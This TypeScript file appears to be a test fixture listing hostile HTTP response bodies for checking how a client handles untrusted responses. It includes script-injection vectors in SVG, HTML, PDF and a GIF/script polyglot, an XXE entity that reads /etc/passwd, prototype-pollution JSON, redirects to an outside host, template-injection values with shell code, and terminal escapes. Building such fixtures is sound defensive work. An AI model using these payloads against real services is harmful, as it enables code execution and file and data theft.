import {BREAK_OUT, ELSEWHERE, HTML, RUN, SHELL, TERMINAL, type Payload} from '../payload';

export type ResponsePayload = Payload & {type: string; body: string | Buffer; status?: number};

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${RUN}"><script>top.${RUN}</script><image xlink:href="${ELSEWHERE}/pixel.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/"/></foreignObject></svg>`;

/** Bodies of responses. */
export const RESPONSES: readonly ResponsePayload[] = [
  {name: 'HTML with scripts', type: 'text/html', body: `<!doctype html>${HTML}`},
  {
    name: 'HTML that leaves',
    type: 'text/html',
    body: `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/"><base href="${ELSEWHERE}/"><link rel="stylesheet" href="${ELSEWHERE}/a.css">`,
  },
  {name: 'an SVG with scripts and pictures', type: 'image/svg+xml', body: SVG},
  {
    name: 'XHTML in XML',
    type: 'application/xml',
    body: `<?xml-stylesheet href="${ELSEWHERE}/a.xsl" type="text/xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  },
  {
    name: 'entities of XML',
    type: 'application/xml',
    body: `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY c SYSTEM "${ELSEWHERE}/c">]><a>&b;&c;</a>`,
  },
  {
    name: 'names of prototypes in JSON',
    type: 'application/json',
    status: 201,
    body: '{"__proto__": {"hostile": 1}, "constructor": {"prototype": {"hostile": 1}}, "id": {"__proto__": {"hostile": 1}}, "toString": 1, "hasOwnProperty": null}',
  },
  {
    name: 'HTML in names and values of JSON',
    type: 'application/json',
    status: 201,
    body: JSON.stringify({[HTML]: BREAK_OUT, id: HTML, status: BREAK_OUT, list: [HTML]}),
  },
  {
    name: 'a JavaScript link as a value',
    type: 'application/json',
    body: JSON.stringify({
      next: `javascript:${RUN}`,
      _links: {next: {href: `javascript:${RUN}`}, page: {href: `${ELSEWHERE}/`}},
    }),
  },
  {
    name: 'a value that is handed on, with code of shells and programs',
    type: 'application/json',
    status: 201,
    body: JSON.stringify({id: SHELL, imsOrg: `\${${RUN}}`, version: `#{${RUN}}`}),
  },
  {
    name: 'problem details with HTML',
    type: 'application/problem+json',
    status: 400,
    body: JSON.stringify({
      type: `javascript:${RUN}`,
      title: HTML,
      detail: BREAK_OUT,
      instance: `${ELSEWHERE}/`,
    }),
  },
  {name: 'a script', type: 'text/javascript', body: `${RUN}; alert(1)`},
  {
    name: 'a style sheet',
    type: 'text/css',
    body: `@import "${ELSEWHERE}/a.css"; * {background: url(${ELSEWHERE}/b)}`,
  },
  {
    name: 'events with HTML',
    type: 'text/event-stream',
    status: 201,
    body: `event: ${HTML}\ndata: {"id": "${RUN}"}\nid: ${BREAK_OUT}\nretry: 0\n\ndata: ${HTML}\n\n`,
  },
  {
    name: 'lines of JSON with names of prototypes',
    type: 'application/x-ndjson',
    status: 201,
    body: `{"__proto__": {"hostile": 1}}\n${JSON.stringify({id: HTML})}\n`,
  },
  {
    name: 'a page of several parts',
    type: 'multipart/x-mixed-replace; boundary=a',
    body: `--a\r\ncontent-type: text/html\r\n\r\n${HTML}\r\n--a--\r\n`,
  },
  {name: 'HTML that is declared as a picture', type: 'image/png', body: HTML},
  {
    name: 'a file that is GIF and script',
    type: 'image/gif',
    body: Buffer.from(`GIF89a/*\u0001\u0000\u0001\u0000*/=1;${RUN}`, 'latin1'),
  },
  {
    name: 'a PDF that opens a page',
    type: 'application/pdf',
    body: `%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI(${ELSEWHERE}/)>>/AA<</O<</S/JavaScript/JS(${RUN})>>>>>>endobj`,
  },
  {
    name: 'HTML in UTF-7',
    type: 'text/html; charset=utf-7',
    body: '+ADw-script+AD4-hostile(1)+ADw-/script+AD4-',
  },
  {
    name: 'sequences for terminals and marks of direction',
    type: 'text/plain',
    body: `${TERMINAL}\u0000\u2028\u2066${HTML}`,
  },
];
